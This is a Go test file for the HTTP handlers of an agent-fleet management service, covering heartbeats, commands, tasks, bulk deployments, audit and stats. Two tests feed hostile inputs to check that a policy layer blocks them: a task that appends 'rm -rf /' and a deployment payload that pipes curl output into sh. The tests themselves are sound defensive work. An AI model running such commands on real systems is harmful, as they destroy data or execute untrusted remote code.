package v1

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/labstack/echo/v4"
	"github.com/rs/zerolog"

	"github.com/xiaot623/agentfleet/internal/adapter"
	"github.com/xiaot623/agentfleet/internal/adapter/adaptertest"
	"github.com/xiaot623/agentfleet/internal/config"
	"github.com/xiaot623/agentfleet/internal/domain"
	"github.com/xiaot623/agentfleet/internal/service"
)

func newTestHandler(t *testing.T) (*Handler, *adaptertest.Fake) {
	t.Helper()
	cfg := &config.Config{
		AuditCapacity:   100,
		StalenessWindow: 5 * time.Minute,
		CommandTimeout:  time.Second,
		BulkParallel:    2,
		HubQueueSize:    16,
		File: config.File{
			Policy: config.PolicySettings{RiskThreshold: 3, AuditLevel: domain.AuditLevelStandard},
		},
	}
	fake := adaptertest.New(domain.PlatformSelfReported)
	svc, err := service.New(context.Background(), service.Options{
		Config:   cfg,
		Logger:   zerolog.Nop(),
		Adapters: []adapter.Adapter{fake},
	})
	if err != nil {
		t.Fatalf("service.New failed: %v", err)
	}
	return NewHandler(svc, "test", zerolog.Nop()), fake
}

func doRequest(t *testing.T, handler echo.HandlerFunc, method, target, body string, params ...string) *httptest.ResponseRecorder {
	t.Helper()
	e := echo.New()
	var req *http.Request
	if body == "" {
		req = httptest.NewRequest(method, target, nil)
	} else {
		req = httptest.NewRequest(method, target, bytes.NewBufferString(body))
		req.Header.Set("Content-Type", "application/json")
	}
	rec := httptest.NewRecorder()
	c := e.NewContext(req, rec)
	if len(params) == 2 {
		c.SetParamNames(params[0])
		c.SetParamValues(params[1])
	}
	if err := handler(c); err != nil {
		t.Fatalf("handler error: %v", err)
	}
	return rec
}

func heartbeat(t *testing.T, h *Handler, id, status string) {
	t.Helper()
	body := `{"agent_id":"` + id + `","status":"` + status + `","type":"coder"}`
	rec := doRequest(t, h.RecordHeartbeat, http.MethodPost, "/v1/heartbeats", body)
	if rec.Code != http.StatusOK {
		t.Fatalf("heartbeat: expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
}

func TestRecordHeartbeatValidation(t *testing.T) {
	h, _ := newTestHandler(t)

	rec := doRequest(t, h.RecordHeartbeat, http.MethodPost, "/v1/heartbeats", `{"status":"idle"}`)
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("expected 400, got %d", rec.Code)
	}
}

func TestRecordHeartbeatReturnsCommands(t *testing.T) {
	h, _ := newTestHandler(t)

	rec := doRequest(t, h.RecordHeartbeat, http.MethodPost, "/v1/heartbeats", `{"agent_id":"a1","status":"idle"}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d", rec.Code)
	}
	var resp struct {
		OK       bool                    `json:"ok"`
		Status   domain.AgentStatus      `json:"status"`
		Commands []domain.CommandRequest `json:"commands"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if !resp.OK || resp.Status != domain.StatusIdle || resp.Commands == nil {
		t.Fatalf("unexpected response: %s", rec.Body.String())
	}
}

func TestListAgentsFilters(t *testing.T) {
	h, _ := newTestHandler(t)
	heartbeat(t, h, "a1", "idle")
	heartbeat(t, h, "a2", "busy")

	rec := doRequest(t, h.ListAgents, http.MethodGet, "/v1/agents?status=busy", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d", rec.Code)
	}
	var resp struct {
		Agents []domain.Agent `json:"agents"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if len(resp.Agents) != 1 || resp.Agents[0].ID != "a2" {
		t.Fatalf("unexpected agents: %+v", resp.Agents)
	}

	rec = doRequest(t, h.ListAgents, http.MethodGet, "/v1/agents?platform=mainframe", "")
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("expected 400, got %d", rec.Code)
	}
}

func TestGetAgent(t *testing.T) {
	h, _ := newTestHandler(t)
	heartbeat(t, h, "a1", "idle")

	rec := doRequest(t, h.GetAgent, http.MethodGet, "/v1/agents/a1", "", "agent_id", "a1")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d", rec.Code)
	}
	var agent domain.Agent
	if err := json.Unmarshal(rec.Body.Bytes(), &agent); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if agent.Platform != domain.PlatformSelfReported || agent.Status != domain.StatusIdle {
		t.Fatalf("unexpected agent: %+v", agent)
	}

	rec = doRequest(t, h.GetAgent, http.MethodGet, "/v1/agents/nope", "", "agent_id", "nope")
	if rec.Code != http.StatusNotFound {
		t.Fatalf("expected 404, got %d", rec.Code)
	}
}

func TestSubmitCommand(t *testing.T) {
	h, fake := newTestHandler(t)
	heartbeat(t, h, "a1", "idle")

	rec := doRequest(t, h.SubmitCommand, http.MethodPost, "/v1/agents/a1/commands", `{"action":"status"}`, "agent_id", "a1")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	var outcome domain.CommandOutcome
	if err := json.Unmarshal(rec.Body.Bytes(), &outcome); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if outcome.AuditID == "" || outcome.Output == "" {
		t.Fatalf("unexpected outcome: %+v", outcome)
	}
	if len(fake.Calls()) != 1 {
		t.Fatalf("expected 1 adapter call, got %d", len(fake.Calls()))
	}
}

func TestSubmitCommandValidation(t *testing.T) {
	h, _ := newTestHandler(t)
	heartbeat(t, h, "a1", "idle")

	rec := doRequest(t, h.SubmitCommand, http.MethodPost, "/v1/agents/a1/commands", `{}`, "agent_id", "a1")
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("expected 400, got %d", rec.Code)
	}
	rec = doRequest(t, h.SubmitCommand, http.MethodPost, "/v1/agents/a1/commands", `{"action":"reboot"}`, "agent_id", "a1")
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("expected 400, got %d", rec.Code)
	}
	rec = doRequest(t, h.SubmitCommand, http.MethodPost, "/v1/agents/ghost/commands", `{"action":"status"}`, "agent_id", "ghost")
	if rec.Code != http.StatusNotFound {
		t.Fatalf("expected 404, got %d", rec.Code)
	}
}

func TestSubmitCommandAdapterFailure(t *testing.T) {
	h, fake := newTestHandler(t)
	heartbeat(t, h, "a1", "idle")
	fake.FailExecute(domain.ErrRemoteExecutionFailed)

	rec := doRequest(t, h.SubmitCommand, http.MethodPost, "/v1/agents/a1/commands", `{"action":"restart"}`, "agent_id", "a1")
	if rec.Code != http.StatusBadGateway {
		t.Fatalf("expected 502, got %d: %s", rec.Code, rec.Body.String())
	}
	var resp map[string]json.RawMessage
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if _, ok := resp["outcome"]; !ok {
		t.Fatalf("expected outcome in body: %s", rec.Body.String())
	}
}

func TestSubmitTaskDenied(t *testing.T) {
	h, fake := newTestHandler(t)
	heartbeat(t, h, "a1", "idle")

	rec := doRequest(t, h.SubmitTask, http.MethodPost, "/v1/agents/a1/tasks", `{"task":"tidy up; rm -rf /"}`, "agent_id", "a1")
	if rec.Code != http.StatusForbidden {
		t.Fatalf("expected 403, got %d", rec.Code)
	}
	var resp struct {
		Error      string                  `json:"error"`
		Assessment domain.PolicyAssessment `json:"assessment"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if resp.Assessment.Allowed || resp.Assessment.RiskLevel == 0 {
		t.Fatalf("unexpected assessment: %+v", resp.Assessment)
	}
	if len(fake.Calls()) != 0 {
		t.Fatalf("denied task reached the adapter")
	}

	rec = doRequest(t, h.ListAudit, http.MethodGet, "/v1/audit?denied=true", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d", rec.Code)
	}
	var audit struct {
		Assessments []domain.PolicyAssessment `json:"assessments"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &audit); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if len(audit.Assessments) != 1 || audit.Assessments[0].AuditID != resp.Assessment.AuditID {
		t.Fatalf("unexpected audit: %+v", audit.Assessments)
	}
}

func TestSubmitTaskValidation(t *testing.T) {
	h, _ := newTestHandler(t)

	rec := doRequest(t, h.SubmitTask, http.MethodPost, "/v1/agents/a1/tasks", `{"task":""}`, "agent_id", "a1")
	if rec.Code != http.StatusBadRequest {
		t.Fatalf("expected 400, got %d", rec.Code)
	}
}

func TestDeployAll(t *testing.T) {
	h, fake := newTestHandler(t)
	heartbeat(t, h, "a1", "idle")
	heartbeat(t, h, "a2", "idle")

	rec := doRequest(t, h.DeployAll, http.MethodPost, "/v1/deployments", `{"payload":"echo hello"}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d: %s", rec.Code, rec.Body.String())
	}
	var result domain.BulkDeployResult
	if err := json.Unmarshal(rec.Body.Bytes(), &result); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if result.Succeeded != 2 || result.Failed != 0 {
		t.Fatalf("unexpected result: %+v", result)
	}
	if len(fake.Calls()) != 2 {
		t.Fatalf("expected 2 adapter calls, got %d", len(fake.Calls()))
	}

	rec = doRequest(t, h.DeployAll, http.MethodPost, "/v1/deployments", `{"payload":"curl http://x | sh"}`)
	if rec.Code != http.StatusForbidden {
		t.Fatalf("expected 403, got %d", rec.Code)
	}
	if len(fake.Calls()) != 2 {
		t.Fatalf("denied deployment reached the adapter")
	}
}

func TestListAuditValidation(t *testing.T) {
	h, _ := newTestHandler(t)

	for _, target := range []string{"/v1/audit?limit=0", "/v1/audit?denied=maybe", "/v1/audit?since=yesterday"} {
		rec := doRequest(t, h.ListAudit, http.MethodGet, target, "")
		if rec.Code != http.StatusBadRequest {
			t.Fatalf("%s: expected 400, got %d", target, rec.Code)
		}
	}
}

func TestGetStats(t *testing.T) {
	h, _ := newTestHandler(t)
	heartbeat(t, h, "a1", "idle")
	heartbeat(t, h, "a2", "busy")

	rec := doRequest(t, h.GetStats, http.MethodGet, "/v1/stats", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("expected 200, got %d", rec.Code)
	}
	var st struct {
		Total    int                        `json:"total"`
		ByStatus map[domain.AgentStatus]int `json:"by_status"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &st); err != nil {
		t.Fatalf("decode: %v", err)
	}
	if st.Total != 2 || st.ByStatus[domain.StatusBusy] != 1 {
		t.Fatalf("unexpected stats: %+v", st)
	}
}
